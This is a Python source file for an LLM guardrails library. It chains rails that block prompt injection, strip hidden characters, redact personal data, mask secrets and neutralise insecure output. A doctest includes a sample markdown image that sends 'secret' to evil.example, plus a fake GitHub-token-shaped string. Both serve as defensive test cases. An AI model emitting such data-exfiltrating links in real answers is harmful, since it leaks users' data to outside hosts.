"""Rails in a row, as one guard: what they say of a text together, and what comes of a rail that fails."""

from __future__ import annotations

import asyncio
from collections.abc import Collection, Generator, Mapping, Sequence
from concurrent.futures import Future, wait
from dataclasses import dataclass
from functools import partial
from types import MappingProxyType
from typing import TYPE_CHECKING, Any, Literal, Protocol, get_args

from ..errors import UsageError
from ..guarding import STAGES, Finding, Stage
from .rail import Rail
from .rails.running import daemons
from .rails.verdict import Verdict, wrong_with

if TYPE_CHECKING:
    from collections.abc import Callable

__all__ = ("TIMEOUT", "Audit", "OnFailure", "RailsGuard", "default_guard", "default_rails")

TIMEOUT = 5.0
"""Seconds for one call of one rail."""
MOST_HUNG = 4
"""Calls of one rail that hang at the same time; until one of them ends, the rail is not called again."""
HANGS = f"{MOST_HUNG} calls of it hang"
OnFailure = Literal["block", "pass"]


class Audit(Protocol):
    """Takes decisions; `ragloom.guardrails.AuditLog` is one."""

    def record(self, stage: Stage, finding: Finding, text: str, context: Mapping[str, Any]) -> None:
        """Called once a decision, in a thread."""
        ...


class RailsGuard:
    """A guard of rails that run in the order given, each in one call for all texts, in a thread with a time limit.

    - A text that a rail blocks is seen by no further one. A text that is changed goes on as changed.
    - The finding names the rail that decided, with its reason and score; of several changes all names and reasons, and
      no score. Where all passed it has a score only if a single rail gave one. A rail that passes a text and gives a
      reason (`policy="flag"`) is named too.
    - Spans are offsets in the text that the caller gave; of rails that saw it changed none are told.
    - A rail that raises, takes too long, gives not one finding a text, or gives one that is none, is named in the
      finding with what it did, never with what it said. The texts that it should have checked are blocked, or with
      `on_failure="pass"` go on without it.
    - `context["metadata"]`, one a text, is cut as the texts are: a rail always sees the metadata of what it checks.
    - A decision that `audit` cannot take down is a failure too, of a rail called `audit`.

    Args:
        rails: at least one. A stage that none of them looks at costs nothing.
        timeout: seconds for one call of one rail, waiting for a thread included.
        on_failure: what comes of the texts that a rail failed to check.
        audit: takes every finding that is no pass, and passes that a rail remarked on, such as one that failed.

    Raises `UsageError` where a rail is none, before any text is checked; `check` and `acheck` raise nothing.

    >>> from ragloom.guardrails import BloatRail, SecretsRail
    >>> guard = RailsGuard([BloatRail(), SecretsRail()])
    >>> guard.check("input", ["My key is ghp_0123456789abcdefghijABCDEFGHIJ012345."])[0].text
    'My key is <GITHUB_TOKEN>.'
    """

    def __init__(
        self,
        rails: Sequence[Rail],
        *,
        timeout: float = TIMEOUT,
        on_failure: OnFailure = "block",
        audit: Audit | None = None,
    ) -> None:
        if not rails:
            raise UsageError("a guard without rails checks nothing", hint="give a rail, or no guard")
        if not 0 < timeout < float("inf"):
            raise UsageError(f"the timeout of the guard is {timeout!r}", hint="give seconds, more than 0")
        if on_failure not in get_args(OnFailure):
            raise UsageError(f"unknown on_failure {on_failure!r}", hint="use block or pass")
        for rail in rails:
            _check_rail(rail)
        self.rails = tuple(rails)
        self.timeout, self.on_failure, self.audit = timeout, on_failure, audit
        self._of_stage = {stage: [rail for rail in rails if stage in rail.stages] for stage in STAGES}
        self._hung: dict[str, set[Future[Any]]] = {rail.name: set() for rail in rails}

    def check(self, stage: Stage, texts: Sequence[str], context: Mapping[str, Any] | None = None) -> list[Finding]:
        """One finding a text, in their order."""
        if not self._of_stage[stage]:
            return [Finding("pass", text) for text in texts]
        checking = self._checking(stage, texts, context or {})
        try:
            call = next(checking)
            while True:
                call = checking.send(self._called(call))
        except StopIteration as end:
            found: list[Finding] = end.value
            return found

    async def acheck(
        self, stage: Stage, texts: Sequence[str], context: Mapping[str, Any] | None = None
    ) -> list[Finding]:
        """As `check`, without blocking the event loop."""
        if not self._of_stage[stage]:
            return [Finding("pass", text) for text in texts]
        checking = self._checking(stage, texts, context or {})
        try:
            call = next(checking)
            while True:
                call = checking.send(await self._acalled(call))
        except StopIteration as end:
            found: list[Finding] = end.value
            return found

    def _checking(
        self, stage: Stage, texts: Sequence[str], context: Mapping[str, Any]
    ) -> Generator[_Call, _Outcome, list[Finding]]:
        """Yields what is to be called, is sent what came of it, and returns the findings."""
        states = [Verdict(text) for text in texts]
        for rail in self._of_stage[stage]:
            alive = [at for at, state in enumerate(states) if not state.blocked]
            if not alive:
                break
            given = [states[at].now for at in alive]
            told = MappingProxyType(_cut(context, alive, len(states)))
            outcome = yield _Call(rail.name, partial(rail.check, stage, given, told))
            failure = outcome.failure or wrong_with(outcome.value, len(given))
            for number, at in enumerate(alive):
                if failure:
                    states[at].failed(rail.name, failure, block=self.on_failure == "block")
                else:
                    states[at].add(rail.name, outcome.value[number])
        found = [state.finding() for state in states]
        told_of = [at for at, each in enumerate(found) if each.verdict != "pass" or each.rail]
        if self.audit is not None and told_of:
            record = partial(_record, self.audit, stage, [(found[at], texts[at]) for at in told_of], context)
            outcome = yield _Call("audit", record)
            if outcome.failure:
                for at in told_of:
                    states[at].failed("audit", outcome.failure, block=self.on_failure == "block")
                    found[at] = states[at].finding()
        return found

    def _called(self, call: _Call) -> _Outcome:
        if self._hangs(call.name):
            return _Outcome(failure=HANGS)
        job = daemons.submit(call.function)
        done, _ = wait([job.future], timeout=self.timeout)
        return _ended(job.future) if done else self._left(call.name, job)

    async def _acalled(self, call: _Call) -> _Outcome:
        if self._hangs(call.name):
            return _Outcome(failure=HANGS)
        job = daemons.submit(call.function)
        ended = asyncio.wrap_future(job.future)
        try:
            done, _ = await asyncio.wait([ended], timeout=self.timeout)
        except asyncio.CancelledError:
            ended.cancel()
            self._left(call.name, job)
            raise
        if not done:
            ended.cancel()
            return self._left(call.name, job)
        return _ended(ended)

    def _hangs(self, name: str) -> bool:
        return len(self._hung.setdefault(name, set())) >= MOST_HUNG

    def _left(self, name: str, job: Any) -> _Outcome:
        daemons.leave(job)
        self._hung[name].add(job.future)
        job.future.add_done_callback(self._hung[name].discard)
        return _Outcome(failure=f"it took longer than {self.timeout:g} s")


@dataclass(frozen=True, slots=True)
class _Call:
    name: str
    function: Callable[[], Any]


@dataclass(frozen=True, slots=True)
class _Outcome:
    value: Any = None
    failure: str = ""
    """Why there is no value."""


def _check_rail(rail: Any) -> None:
    name, stages = getattr(rail, "name", None), getattr(rail, "stages", None)
    if not isinstance(name, str) or not name or not callable(getattr(rail, "check", None)):
        raise UsageError(f"{type(rail).__name__} is no rail", hint="a rail has a name, stages and check()")
    if isinstance(stages, str) or not isinstance(stages, Collection) or not stages or set(stages) - set(STAGES):
        raise UsageError(f"the rail {name!r} has stages that are none", hint=f"give some of {', '.join(STAGES)}")


def _cut(context: Mapping[str, Any], alive: Sequence[int], count: int) -> dict[str, Any]:
    given = context.get("metadata")
    if len(alive) == count or not isinstance(given, list | tuple) or len(given) != count:
        return dict(context)
    return {**context, "metadata": [given[at] for at in alive]}


def _ended(call: Future[Any] | asyncio.Future[Any]) -> _Outcome:
    error = call.exception()
    # What an error says may hold the text, a path or a key: its name is all that is told.
    return _Outcome(call.result()) if error is None else _Outcome(failure=type(error).__name__)


def _record(audit: Audit, stage: Stage, found: Sequence[tuple[Finding, str]], context: Mapping[str, Any]) -> None:
    for finding, text in found:
        audit.record(stage, finding, text, context)


def default_rails(
    *,
    injection: bool = True,
    hidden: bool = True,
    personal: bool = False,
    allowed_hosts: Collection[str] | None = None,
) -> list[Rail]:
    """The rails of `default_guard`, to add your own to."""
    from .rails import BloatRail, HiddenTextRail, InjectionRail, InsecureOutputRail, SecretsRail

    rails: list[Rail] = [BloatRail()]
    if hidden:
        rails.append(HiddenTextRail())
    if injection:
        rails.append(InjectionRail())
    if personal:
        from .pii import PersonalDataRail

        rails.append(PersonalDataRail("redact"))
    return [*rails, InsecureOutputRail(allowed_hosts=allowed_hosts), SecretsRail()]


def default_guard(
    *,
    injection: bool = True,
    hidden: bool = True,
    personal: bool = False,
    allowed_hosts: Collection[str] | None = None,
    timeout: float = TIMEOUT,
    on_failure: OnFailure = "block",
    audit: Audit | None = None,
) -> RailsGuard:
    """Our rails that need no LLM and no network, in this order.

    rail       input  retrieval  tool   output   what it does
    bloat      block  block      block           what is too long, or says the same over and over
    hidden     change change     change change   takes out characters that nobody sees
    injection  block  block      block           orders to drop the rules
    personal   change change     change change   redacts; needs the extra `guardrails`, off by default
    insecure          change     change change   HTML that runs, images and links that carry data away, payloads
    secrets    change change     change change   masks keys and passwords

    Blocks come early: what is blocked costs no more. Invisible characters go first of the rails that read words, and
    personal data before links are judged by what they carry.

    Args:
        injection: needs the weights of the trunk; they are fetched on first use.
        allowed_hosts: of links and images in answers; see `InsecureOutputRail`.

    The other arguments are those of `RailsGuard`.

    >>> default_guard(injection=False).check("output", ["![x](https://evil.example/?q=secret)"])[0].text
    'x'
    """
    rails = default_rails(injection=injection, hidden=hidden, personal=personal, allowed_hosts=allowed_hosts)
    return RailsGuard(rails, timeout=timeout, on_failure=on_failure, audit=audit)
